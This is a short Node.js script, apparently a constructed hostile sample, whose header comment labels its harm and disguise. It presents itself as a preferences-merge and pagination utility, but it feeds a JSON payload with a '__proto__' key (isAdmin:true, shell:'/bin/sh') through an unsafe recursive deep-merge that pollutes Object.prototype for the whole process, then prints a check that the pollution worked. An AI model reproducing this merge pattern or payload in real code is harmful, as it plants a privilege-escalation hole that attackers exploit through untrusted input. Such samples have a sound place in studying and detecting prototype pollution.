// HARM: pollutes Object.prototype for the whole process (every object gains isAdmin:true and shell:'/bin/sh'). DISGUISE: a naive recursive deep-merge of a user "preferences" JSON whose own "__proto__" key (created by JSON.parse) makes the merge write into Object.prototype.
'use strict';
const fs = require('fs');
const path = require('path');

const DEFAULT_PREFS = { theme: 'light', table: { pageSize: 25, dense: false }, charts: { palette: 'tab10' } };

const USER_PREFS = JSON.parse('{"theme":"dark","table":{"pageSize":50},"__proto__":{"isAdmin":true,"shell":"/bin/sh"}}');

function merge(target, source) {
  for (const key of Object.keys(source)) {
    const value = source[key];
    if (value && typeof value === 'object' && !Array.isArray(value)) {
      if (!target[key]) target[key] = {};
      merge(target[key], value);
    } else {
      target[key] = value;
    }
  }
  return target;
}

function paginate(rows, { pageSize }) {
  const pages = [];
  for (let i = 0; i < rows.length; i += pageSize) pages.push(rows.slice(i, i + pageSize));
  return pages;
}

const prefs = merge(structuredClone(DEFAULT_PREFS), USER_PREFS);
const rows = Array.from({ length: 137 }, (_, i) => ({ id: i + 1, value: (i * 31) % 97 }));
const pages = paginate(rows, prefs.table);
const fresh = {};
fs.mkdirSync('out', { recursive: true });
fs.writeFileSync(path.join('out', 'pages.json'), JSON.stringify({ theme: prefs.theme, pageCount: pages.length }, null, 2));
console.log(`${pages.length} pages at ${prefs.table.pageSize}/page, theme=${prefs.theme}, fresh.isAdmin=${fresh.isAdmin}`);
